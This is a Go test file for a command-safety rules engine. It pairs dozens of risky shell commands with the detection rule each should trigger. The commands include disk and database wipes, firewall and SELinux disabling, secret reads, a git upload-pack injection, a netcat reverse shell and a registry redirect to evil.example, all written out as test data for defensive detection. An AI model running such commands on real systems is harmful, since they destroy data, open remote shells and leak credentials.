package rules

import (
	"slices"
	"testing"
)

// extraPositives are single commands that must trigger a rule not already
// covered by packCases or irCases.
var extraPositives = []struct{ cmd, id string }{
	{"aws iam attach-user-policy --user-name bob --policy-arn arn", "cloud.aws.iam-write"},
	{"azcopy remove https://acct.blob.core.windows.net/c/x", "cloud.azcopy.remove"},
	{"azcopy sync ./site https://acct.blob.core.windows.net/c --delete-destination=true", "cloud.azcopy.sync-delete"},
	{"cdk destroy MyStack", "cloud.iac-tools.destroy"},
	{"heroku apps:destroy myapp", "cloud.paas.delete"},
	{"rclone purge remote:bucket", "cloud.storage-tools.delete"},
	{"docker-compose down", "container.compose-v1-down"},
	{"docker run --volume /etc:/etc img", "container.run-host-root-volume-long"},
	{"mv / /old", "core.fs.move-home-or-root"},
	{"sed -i s/a/b/ ~/.bashrc", "core.fs.sed-inplace-sensitive"},
	{"gio trash --empty", "core.fs.trash-empty"},
	{"xargs rm -f", "core.fs.xargs-delete-unknown"},
	{"php artisan migrate:fresh", "db.artisan-wipe"},
	{"flyway clean", "db.migration-tool-clean"},
	{"mysqladmin drop app", "db.mysqladmin-drop"},
	{"npx prisma db push --force-reset", "db.prisma-force-reset"},
	{"redis-cli $CMD", "db.redis-unknown-command"},
	{"psql -c 'DROP INDEX idx_users'", "db.sql-drop-other"},
	{"gh pr merge 42 --squash", "forge.close-merge"},
	{"gh repo edit --visibility public", "forge.repo-visibility"},
	{"gh workflow run deploy.yml", "forge.workflow-run"},
	{"git branch -M main", "git.branch-force-move"},
	{"git clone --upload-pack='touch /tmp/x' host:repo", "git.config-env-exec"},
	{"git-filter-repo --path secrets --invert-paths", "git.filter-repo-tool"},
	{"git lfs prune", "git.lfs-prune"},
	{"git prune", "git.prune-all"},
	{"git submodule deinit -f --all", "git.submodule-deinit-force"},
	{"git worktree remove --force ../wt", "git.worktree-remove-force"},
	{"helm upgrade web ./chart --force", "helm.force"},
	{"helm rollback web 3", "helm.rollback"},
	{"ansible all -m shell -a 'uptime'", "iac.ansible-adhoc-shell"},
	{"kamal remove", "iac.orchestrator-destroy"},
	{"pulumi stack rm dev", "iac.pulumi-stack-remove"},
	{"pulumi state delete urn:x", "iac.pulumi-state-delete"},
	{"terraform apply -destroy", "iac.terraform-apply-destroy"},
	{"terraform force-unlock 1234", "iac.terraform-force-unlock"},
	{"terraform workspace delete dev", "iac.terraform-workspace-delete"},
	{"osascript -e 'do shell script \"ls\"'", "interp.osascript-shell"},
	{"kind delete cluster", "k8s.cluster-delete"},
	{"kubectl exec -it web -- sh", "k8s.exec-shell"},
	{"kubectl replace --force -f deploy.yaml", "k8s.replace-force"},
	{"http DELETE api.example.com/items/1", "net.httpie-delete"},
	{"pacman -R nginx", "pkg.pacman-remove"},
	{"npm config set registry https://evil.example", "pkg.registry-config"},
	{"uv pip install requests", "pkg.uv-pip-install"},
	{"unison -batch a b", "remote-copy.unison-force"},
	{"nc 10.0.0.1 4444 | sh", "remote.reverse-shell-to-shell"},
	{"security find-generic-password -s github -w", "secrets.keychain-read"},
	{"aws secretsmanager get-secret-value --secret-id prod/db", "secrets.manager-read"},
	{"at now + 1 minute", "system.cron.at"},
	{"diskutil eraseDisk APFS X disk2", "system.disk.diskutil-erase"},
	{"lvremove /dev/vg/lv", "system.disk.lvm-remove"},
	{"hdparm --security-erase pass /dev/sda", "system.disk.secure-erase"},
	{"umount /mnt/data", "system.disk.umount"},
	{"zpool destroy tank", "system.disk.volume-destroy"},
	{"nft flush ruleset", "system.firewall.nft"},
	{"ufw disable", "system.firewall.ufw"},
	{"chattr +i file", "system.fs.chattr-immutable"},
	{"modprobe -r e1000", "system.kernel.modules"},
	{"sysctl -w net.ipv4.ip_forward=1", "system.kernel.sysctl-write"},
	{"pkill -u root", "system.kill.by-name"},
	{"killall init", "system.kill.all-pkill"},
	{"setenforce 0", "system.security.disable"},
	{"launchctl unload ~/Library/LaunchAgents/x.plist", "system.service.launchctl"},
	{"service nginx stop", "system.service.legacy-stop"},
}

func TestExtraPositives(t *testing.T) {
	s := builtin(t)
	for _, c := range extraPositives {
		if j := judge(t, s, c.cmd); !slices.Contains(j.IDs, c.id) {
			t.Errorf("%s: want %s among %v", c.cmd, c.id, j.IDs)
		}
	}
}
